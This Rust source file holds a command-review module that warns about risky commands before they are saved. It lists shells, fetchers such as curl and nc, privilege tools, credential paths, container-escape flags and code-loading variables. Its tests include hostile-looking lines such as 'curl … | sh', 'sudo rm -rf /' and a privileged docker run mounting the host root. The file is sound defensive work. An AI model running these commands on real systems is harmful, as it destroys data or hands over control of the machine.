//! Warnings about a command before it is saved. They don't forbid anything. Any program can do anything, so
//! the person decides (SEC-08).

use mooring_base::codes;
use mooring_base::command_line::ParsedCommand;
use mooring_base::credentials::{is_token, looks_secret};
use mooring_words::{Sentence, say};
use serde::Serialize;
use ts_rs::TS;

use crate::package_source::{is_source_variable, source_options, without_source_options};
use crate::untrusted::{find_hidden_in_text, mixes_alphabets};

/// Maximum number of warnings about one command.
const MAX_WARNINGS: usize = 20;

codes! {
    /// How serious a note is.
    pub enum CommandNoteCode {
        /// The command gives the program power over this computer, or destroys something.
        Danger = "danger",
        /// Something to be careful about.
        Warning = "warning",
        /// A note that is true for every package that is run without being installed.
        Information = "information",
    }
}

/// A note about a command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, TS)]
pub struct CommandNote {
    /// How serious the note is.
    pub code: CommandNoteCode,
    /// The text of the note.
    pub text: Sentence,
}

/// Notes about a command with these arguments and these names of environment variables.
pub fn review_command(command: &str, args: &[String], env: &[String]) -> Vec<CommandNote> {
    let mut spaced = Vec::new();
    if ParsedCommand::read(command, args, None) != ParsedCommand::Program {
        spaced.push(say!(
            "the program’s name contains spaces: its arguments belong after it, outside its quotes: {command}",
            command
        ));
    }
    let mut downloads = Vec::new();
    warn_about_download(&program_name(command), args, &mut downloads);
    let notes = |code, texts: Vec<Sentence>| texts.into_iter().map(move |text| CommandNote { code, text });
    let (dangers, warnings) = collect_warnings(command, args, env);
    notes(CommandNoteCode::Warning, spaced)
        .chain(notes(CommandNoteCode::Information, downloads))
        .chain(notes(CommandNoteCode::Danger, dangers))
        .chain(notes(CommandNoteCode::Warning, warnings))
        .collect()
}

/// Like [`review_command`], but without the warnings about downloads that every package runner gets.
pub fn danger_warnings(command: &str, args: &[String], env: &[String]) -> Vec<Sentence> {
    let (mut found, warnings) = collect_warnings(command, args, env);
    found.extend(warnings);
    found
}

/// Collects the dangers of a command, and other warnings.
fn collect_warnings(command: &str, args: &[String], env: &[String]) -> (Vec<Sentence>, Vec<Sentence>) {
    let (mut dangers, mut warnings) = (Vec::new(), Vec::new());
    let program = program_name(command);
    warn_about_program(&program, args, &mut warnings);
    warn_about_letters(&program, args, &mut warnings);
    warn_about_words(&program, args, &mut dangers, &mut warnings);
    warn_about_containers(&program, args, &mut dangers);
    warn_about_secrets(args, &mut warnings);
    warn_about_variables(env, &mut warnings);
    if let Some(package) = downloaded_package(&program, args) {
        let changed = |name: &str| say!("{name} changes where packages are downloaded from", name);
        warnings.extend(source_options(args, package).map(changed));
    }
    let texts = std::iter::once(command).chain(args.iter().map(String::as_str));
    for text in texts {
        let hidden = find_hidden_in_text(text);
        if !hidden.is_empty() {
            let characters: Vec<String> = hidden.into_iter().map(|found| found.code_point).collect();
            warnings.push(say!(
                "it contains misleading characters: {characters}",
                characters = characters.join(", ")
            ));
        }
    }
    (remove_duplicates(dangers), remove_duplicates(warnings))
}

fn remove_duplicates(warnings: Vec<Sentence>) -> Vec<Sentence> {
    let mut found = Vec::new();
    for warning in warnings {
        if !found.contains(&warning) && found.len() < MAX_WARNINGS {
            found.push(warning);
        }
    }
    found
}

/// A program's name in lower case, without its folder and a Windows program's extension.
fn program_name(command: &str) -> String {
    let name = command.trim().rsplit(['/', '\\']).next().unwrap_or_default().to_ascii_lowercase();
    for ending in [".exe", ".cmd", ".bat", ".com"] {
        if let Some(stem) = name.strip_suffix(ending) {
            return stem.to_owned();
        }
    }
    name
}

const SHELLS: [&str; 14] = [
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "csh",
    "tcsh",
    "cmd",
    "powershell",
    "pwsh",
    "nu",
    "busybox",
    "wsl",
];
const PRIVILEGE_PROGRAMS: [&str; 6] = ["sudo", "doas", "pkexec", "su", "runas", "gsudo"];
const FETCHERS: [&str; 8] = ["curl", "wget", "iwr", "invoke-webrequest", "irm", "certutil", "nc", "ncat"];
const ERASERS: [&str; 7] = ["rm", "rmdir", "del", "shred", "dd", "mkfs", "format"];

/// Whether a program is a shell: what is inserted into its arguments would run as a part of its script.
pub fn is_shell(command: &str) -> bool {
    SHELLS.contains(&program_name(command).as_str())
}

fn warn_about_program(program: &str, args: &[String], warnings: &mut Vec<Sentence>) {
    if SHELLS.contains(&program) {
        warnings.push(say!("{program} is a shell: it does whatever its arguments say", program));
    }
    let runs = |flag: &&String| match program {
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "fish" | "csh" | "tcsh" | "busybox" => {
            flag.starts_with('-') && !flag.starts_with("--") && flag.contains('c')
        }
        "cmd" => matches!(flag.to_ascii_lowercase().as_str(), "/c" | "/k"),
        "powershell" | "pwsh" => {
            let flag = flag.to_ascii_lowercase();
            flag.starts_with("-c") || flag.starts_with("-e") || flag == "-file"
        }
        "node" | "bun" | "ruby" | "perl" => {
            matches!(flag.as_str(), "-e" | "--eval" | "-p" | "--print" | "-E")
        }
        "deno" => flag.as_str() == "eval",
        "npx" | "npm" | "pnpm" => matches!(flag.as_str(), "-c" | "--call"),
        "php" | "lua" | "osascript" | "julia" => matches!(flag.as_str(), "-r" | "-e"),
        _ if is_python(program) => flag.as_str() == "-c",
        _ => false,
    };
    if let Some(flag) = args.iter().find(runs) {
        warnings.push(say!("{flag} makes {program} run the text after it as a script", flag, program));
    }
}

fn warn_about_download(program: &str, args: &[String], warnings: &mut Vec<Sentence>) {
    if let Some(package) = downloaded_package(program, args) {
        warnings.push(say!(
            "{program} downloads and runs {package}: only add it if you trust its publisher",
            program,
            package
        ));
        if !names_version(package) {
            warnings
                .push(say!("no version of {package} is pinned: each start may run a different one", package));
        }
    }
}

/// Warns about letters of another alphabet, which make a name look like that of a well-known program.
fn warn_about_letters(program: &str, args: &[String], warnings: &mut Vec<Sentence>) {
    for name in std::iter::once(program).chain(downloaded_package(program, args)) {
        if name.split(|it: char| !it.is_alphanumeric()).any(mixes_alphabets) {
            warnings.push(say!("the name mixes alphabets, to look like another: {name}", name));
        }
    }
}

fn first_word(args: &[String]) -> Option<&str> {
    without_source_options(args).into_iter().find(|argument| !argument.starts_with('-'))
}

fn is_python(program: &str) -> bool {
    program.strip_prefix("python").is_some_and(|rest| rest.chars().all(|it| it.is_ascii_digit() || it == '.'))
        || matches!(program, "py" | "pypy" | "pypy3")
}

/// The package or image that the command downloads and runs.
pub fn downloaded_package<'a>(program: &str, args: &'a [String]) -> Option<&'a str> {
    let first = first_word(args);
    let behind = |word: &str| {
        let at = args.iter().position(|argument| argument == word)?;
        first_word(args.get(at + 1..)?)
    };
    match program {
        "npx" | "bunx" | "pnpx" => behind("-p").or_else(|| behind("--package")).or(first),
        "uvx" => behind("--from").or(first),
        "dnx" => first,
        "npm" => behind("exec").or_else(|| behind("x")),
        "pnpm" | "yarn" => behind("dlx"),
        "bun" => behind("x"),
        "pipx" => behind("run"),
        "uv" => behind("tool").and_then(|_| behind("run")),
        "go" => behind("run").filter(|package| package.contains('.') && package.contains('/')),
        "docker" | "podman" | "nerdctl" => container_image(args),
        _ => args.iter().map(String::as_str).find(|argument| {
            matches!(program, "deno" | "node" | "bun")
                && (argument.starts_with("https://") || argument.starts_with("http://"))
        }),
    }
}

/// The image of a container. Only the options in `VALUED` are known to have a separate value.
fn container_image(args: &[String]) -> Option<&str> {
    const VALUED: [&str; 14] = [
        "-v",
        "--volume",
        "-e",
        "--env",
        "--env-file",
        "--name",
        "--network",
        "--net",
        "--mount",
        "-p",
        "--publish",
        "-w",
        "--workdir",
        "--entrypoint",
    ];
    let at = args.iter().position(|argument| argument == "run")?;
    let mut rest = args.get(at + 1..)?.iter();
    while let Some(argument) = rest.next() {
        if VALUED.contains(&argument.as_str()) {
            rest.next();
        } else if !argument.starts_with('-') {
            return Some(argument);
        }
    }
    None
}

fn names_version(package: &str) -> bool {
    let name = package.rsplit('/').next().unwrap_or_default();
    if package.contains("==") || package.contains("@sha256:") {
        return true;
    }
    let version = name.split_once('@').or_else(|| name.split_once(':')).map(|(_, version)| version);
    version.is_some_and(|version| {
        version.chars().any(|it| it.is_ascii_digit()) && !version.starts_with(['^', '~'])
    })
}

/// Checks the words of the command, and the words inside a script that a shell runs.
fn warn_about_words(
    program: &str,
    args: &[String],
    dangers: &mut Vec<Sentence>,
    warnings: &mut Vec<Sentence>,
) {
    let separators = |it: char| it.is_whitespace() || "|;&()`$'\"<>".contains(it);
    let inner = args.iter().flat_map(|argument| argument.split(separators)).filter(|word| !word.is_empty());
    let words: Vec<&str> = std::iter::once(program).chain(inner).collect();
    // The last part of a path is the name of a program only if the path is run. A folder may also be called
    // `nc`.
    let is_program = |word: &str| {
        word == program
            || SHELLS.contains(&program)
            || !word.contains(['/', '\\'])
            || ["/bin/", "/sbin/", "\\system32\\"]
                .iter()
                .any(|folder| word.to_ascii_lowercase().contains(folder))
    };
    for word in &words {
        let name = if is_program(word) { program_name(word) } else { String::new() };
        if PRIVILEGE_PROGRAMS.contains(&name.as_str()) {
            dangers.push(say!("{program} gives it administrator permissions", program = name));
        } else if FETCHERS.contains(&name.as_str()) {
            warnings.push(say!("{program} fetches something from the network", program = name));
        } else if ERASERS.contains(&name.as_str()) && (*word == program || SHELLS.contains(&program)) {
            dangers.push(say!("{program} deletes or overwrites files", program = name));
        } else if word.contains("..") && word.contains('/') && !word.contains("://") {
            warnings.push(say!("it points outside its folder: {path}", path = *word));
        }
        if let Some(socket) = find_container_socket(word) {
            dangers.push(say!(
                "{path} controls this computer’s containers: anyone with access to it can do everything here",
                path = socket
            ));
        } else if let Some(place) = find_sensitive_path(word) {
            warnings.push(say!("{path} contains your secrets or settings", path = place));
        }
    }
    if args
        .iter()
        .any(|argument| argument.contains("| sh") || argument.contains("|sh") || argument.contains("| bash"))
    {
        dangers.push(say!("it runs what it downloads right away"));
    }
}

/// Finds the socket of a container engine. A program with access to the socket can create containers, which
/// can reach the whole disk.
fn find_container_socket(word: &str) -> Option<&str> {
    const SOCKETS: [&str; 4] = ["docker.sock", "containerd.sock", "podman.sock", "crio.sock"];
    SOCKETS.iter().any(|socket| word.contains(socket)).then_some(word)
}

fn find_sensitive_path(word: &str) -> Option<&str> {
    const INSIDE: [&str; 9] = [
        "/.ssh",
        "/.aws",
        "/.gnupg",
        "/.kube",
        "/.config",
        "/.netrc",
        "/.mozilla",
        "/etc/passwd",
        "/etc/shadow",
    ];
    let whole = ["/", "~", "~/", "$HOME", "/etc", "/root", "C:\\"];
    let found = INSIDE.iter().any(|inside| word.contains(inside)) || whole.contains(&word);
    found.then_some(word)
}

fn warn_about_containers(program: &str, args: &[String], dangers: &mut Vec<Sentence>) {
    if !matches!(program, "docker" | "podman" | "nerdctl") {
        return;
    }
    for argument in args {
        let opens = matches!(
            argument.as_str(),
            "--privileged" | "--network=host" | "--net=host" | "--pid=host" | "host"
        ) || argument.starts_with("--cap-add");
        let mount = argument.split_once('=').map_or(argument.as_str(), |(_, value)| value);
        if mount.starts_with("/:") {
            dangers.push(say!("{argument} gives it access to this computer’s whole disk", argument));
        } else if opens {
            dangers.push(say!("{argument} opens the container to this computer", argument));
        }
    }
}

/// The indexes of the arguments that look like secrets.
pub fn secret_arguments(args: &[String]) -> Vec<usize> {
    let looks_so = |index: usize, argument: &String| {
        let named = |name: &str| looks_secret(name.trim_start_matches('-'));
        let follows_name = index
            .checked_sub(1)
            .and_then(|before| args.get(before))
            .is_some_and(|before| before.starts_with('-') && !before.contains('=') && named(before));
        let holds = match argument.split_once('=') {
            Some((name, value)) => !value.is_empty() && !value.starts_with(['$', '{']) && named(name),
            None => follows_name && !argument.starts_with('-'),
        };
        let is_header = argument.to_ascii_lowercase().contains("authorization:")
            || argument.to_ascii_lowercase().starts_with("bearer ");
        holds || is_header || is_token(argument)
    };
    args.iter()
        .enumerate()
        .filter(|(index, argument)| looks_so(*index, argument))
        .map(|(index, _)| index)
        .collect()
}

/// Warns about secrets in arguments, because every other process can read a process's arguments (D7).
fn warn_about_secrets(args: &[String], warnings: &mut Vec<Sentence>) {
    warnings.extend(secret_arguments(args).into_iter().map(secret_argument_warning));
}

/// The warning about a secret in the argument with this index.
pub fn secret_argument_warning(index: usize) -> Sentence {
    say!(
        "argument {number} looks like a secret, and other programs can read arguments: use an environment variable",
        number = index + 1
    )
}

fn warn_about_variables(env: &[String], warnings: &mut Vec<Sentence>) {
    const LOADING: [&str; 14] = [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "LD_AUDIT",
        "NODE_OPTIONS",
        "NODE_PATH",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "PYTHONHOME",
        "RUBYOPT",
        "PERL5OPT",
        "PERL5LIB",
        "BASH_ENV",
        "JAVA_TOOL_OPTIONS",
        "ENV",
    ];
    for name in env {
        let upper = name.to_ascii_uppercase();
        if LOADING.contains(&upper.as_str()) || upper.starts_with("DYLD_") {
            warnings.push(say!("{name} loads other code into the program", name));
        } else if is_source_variable(name) {
            warnings.push(say!("{name} changes where packages are downloaded from", name));
        } else if upper == "PATH" {
            warnings.push(say!("{name} changes where the program looks for others", name));
        } else if matches!(
            upper.as_str(),
            "HTTP_PROXY"
                | "HTTPS_PROXY"
                | "ALL_PROXY"
                | "NODE_TLS_REJECT_UNAUTHORIZED"
                | "SSL_CERT_FILE"
                | "DOCKER_HOST"
                | "CONTAINER_HOST"
        ) {
            warnings.push(say!("{name} changes which servers the program contacts", name));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn warnings(line: &[&str], env: &[&str]) -> Vec<String> {
        let args: Vec<String> = line[1..].iter().map(ToString::to_string).collect();
        let env: Vec<String> = env.iter().map(ToString::to_string).collect();
        review_command(line[0], &args, &env).into_iter().map(|note| note.text.as_str().to_owned()).collect()
    }

    // Requirements: SEC-05, SEC-08.
    #[test]
    fn thirty_shapes_of_commands_have_the_right_warnings() {
        let table: &[(&[&str], &[&str], &[&str])] = &[
            (&["sh", "-c", "echo hi"], &[], &["is a shell", "-c makes sh run"]),
            (&["/bin/bash", "-lc", "server"], &[], &["bash is a shell", "-lc makes bash run"]),
            (&["cmd.exe", "/c", "server.bat"], &[], &["cmd is a shell", "/c makes cmd run"]),
            (&["pwsh", "-EncodedCommand", "AAAA"], &[], &["pwsh is a shell", "-EncodedCommand makes"]),
            (&["node", "-e", "require('x')"], &[], &["-e makes node run"]),
            (&["node", "--eval", "1"], &[], &["--eval makes node run"]),
            (&["python3.12", "-c", "import os"], &[], &["-c makes python3.12 run"]),
            (&["perl", "-e", "1"], &[], &["-e makes perl run"]),
            (&["osascript", "-e", "tell"], &[], &["-e makes osascript run"]),
            (&["npx", "-c", "evil"], &[], &["-c makes npx run", "downloads", "no version"]),
            (
                &["npx", "-y", "@scope/server"],
                &[],
                &["npx downloads and runs @scope/server", "no version of @scope/server"],
            ),
            (&["npx", "-y", "@scope/server@1.2.3"], &[], &["npx downloads and runs @scope/server@1.2.3"]),
            (&["npx", "server@latest"], &[], &["downloads", "no version"]),
            (&["uvx", "server"], &[], &["uvx downloads and runs server", "no version"]),
            (
                &["npx", "--registry", "https://packages.example", "-y", "server@1.2.3", "--registry", "x"],
                &["npm_config_@corp:registry", "UV_INDEX_URL", "SOURCE"],
                &[
                    "npx downloads and runs server@1.2.3",
                    "npm_config_@corp:registry changes where packages",
                    "UV_INDEX_URL changes where packages",
                    "--registry changes where packages",
                ],
            ),
            (
                &["uvx", "--index-url=https://packages.example", "--from", "server==1.0", "run-it"],
                &["PIP_EXTRA_INDEX_URL"],
                &["uvx downloads", "PIP_EXTRA_INDEX_URL changes where", "--index-url changes where packages"],
            ),
            (&["uvx", "--from", "server==1.0", "run-it"], &[], &["uvx downloads and runs server==1.0"]),
            (&["pipx", "run", "server"], &[], &["pipx downloads and runs server", "no version"]),
            (&["pnpm", "dlx", "server@2.0.0"], &[], &["pnpm downloads and runs server@2.0.0"]),
            (&["go", "run", "example.com/x/server@latest"], &[], &["go downloads", "no version"]),
            (&["deno", "run", "-A", "https://example.com/x.ts"], &[], &["deno downloads", "no version"]),
            (
                &["docker", "run", "-i", "--rm", "mcp/server:1.4"],
                &[],
                &["docker downloads and runs mcp/server:1.4"],
            ),
            (
                &["docker", "run", "--privileged", "-v", "/:/host", "x/y:1"],
                &[],
                &["docker downloads and runs x/y:1", "--privileged opens", "/:/host gives it access"],
            ),
            (
                &["docker", "run", "-v", "/var/run/docker.sock:/s", "x/y:1"],
                &[],
                &["downloads", "/var/run/docker.sock:/s controls this computer’s containers"],
            ),
            (
                &["docker", "run", "--volume=/:/host:ro", "x/y:1"],
                &[],
                &["downloads", "--volume=/:/host:ro gives it access"],
            ),
            (&["pyth\u{43f}n3", "-m", "server"], &[], &["mixes alphabets"]),
            (&["/opt/\u{43c}\u{43e}\u{439}-\u{441}\u{435}\u{440}\u{432}\u{435}\u{440}"], &[], &[]),
            (
                &["npx", "-y", "s\u{435}rver@1.0.0"],
                &[],
                &["downloads", "mixes alphabets", "misleading characters: U+0435"],
            ),
            (&["sudo", "server"], &[], &["sudo gives it administrator permissions"]),
            (
                &["sh", "-c", "curl https://x.example/i | sh"],
                &[],
                &["shell", "-c makes", "curl fetches", "it runs what it downloads"],
            ),
            (
                &["bash", "-c", "sudo rm -rf /"],
                &[],
                &["shell", "-c makes", "sudo gives", "rm deletes", "/ contains your"],
            ),
            (&["wget", "https://x.example"], &[], &["wget fetches"]),
            (&["env", "/usr/bin/sudo", "server"], &[], &["sudo gives it administrator permissions"]),
            (&["server", "nc", "x.example"], &[], &["nc fetches"]),
            // Folders can have any name.
            (&["npx", "-y", "server@1.0.0", "/home/me/nc"], &[], &["downloads"]),
            (&["server", "C:\\work\\curl"], &[], &[]),
            (&["server", "--root", "/home/me/.ssh"], &[], &["/home/me/.ssh contains your"]),
            (&["server", "--dir", "a/../../etc"], &[], &["points outside its folder"]),
            (&["server", "--api-key", "abc123"], &[], &["argument 2 looks like a secret"]),
            (&["server", "--token=abc123"], &[], &["argument 1 looks like a secret"]),
            (&["server", "ghp_0123456789abcdef0123"], &[], &["argument 1 looks like a secret"]),
            (&["server", "--header", "Authorization: Bearer x"], &[], &["argument 2 looks like a secret"]),
            (&["server", "a\u{202e}b"], &[], &["misleading characters: U+202E"]),
            (&["server"], &["LD_PRELOAD"], &["LD_PRELOAD loads other code"]),
            (
                &["server"],
                &["NODE_OPTIONS", "DYLD_INSERT_LIBRARIES"],
                &["NODE_OPTIONS loads", "DYLD_INSERT_LIBRARIES loads"],
            ),
            (
                &["server"],
                &["PATH", "HTTPS_PROXY"],
                &["PATH changes where", "HTTPS_PROXY changes which servers"],
            ),
            (&["node", "server.js", "--port", "80"], &["API_KEY"], &[]),
            (&["/usr/bin/python3", "-m", "server"], &["HOME"], &[]),
            (&["server", "--token-file", "=", "--tokens"], &[], &[]),
        ];
        assert!(table.len() >= 30);
        for (line, env, expected) in table {
            let told = warnings(line, env);
            assert_eq!(told.len(), expected.len(), "{line:?}: {told:?}");
            for expected in *expected {
                assert!(told.iter().any(|told| told.contains(expected)), "{line:?}: {expected}: {told:?}");
            }
        }
    }

    #[test]
    fn what_gives_power_over_the_computer_is_a_danger() {
        let dangers = |line: &[&str]| {
            let args: Vec<String> = line.iter().skip(1).map(ToString::to_string).collect();
            let notes = review_command(line[0], &args, &[]);
            notes.iter().filter(|note| note.code == CommandNoteCode::Danger).count()
        };
        for (line, expected) in [
            (&["sudo", "server"][..], 1),
            (&["bash", "-c", "sudo rm -rf /tmp/x"], 2),
            (&["sh", "-c", "curl https://x.example/i | sh"], 1),
            (&["docker", "run", "--privileged", "-v", "/:/host", "x/y:1"], 2),
            (&["docker", "run", "-v", "/var/run/docker.sock:/s", "x/y:1"], 1),
            (&["server", "--root", "/home/me/.ssh"], 0),
            (&["npx", "-y", "server"], 0),
        ] {
            assert_eq!(dangers(line), expected, "{line:?}");
        }
    }

    #[test]
    fn only_what_every_download_is_told_is_no_warning() {
        let args = ["-y".to_owned(), "server".to_owned(), "/home/me/.ssh".to_owned()];
        let notes = review_command("npx", &args, &[]);
        let codes: Vec<_> = notes.iter().map(|note| note.code).collect();
        use CommandNoteCode::{Information, Warning};
        assert_eq!(codes, [Information, Information, Warning], "{notes:?}");
    }
}
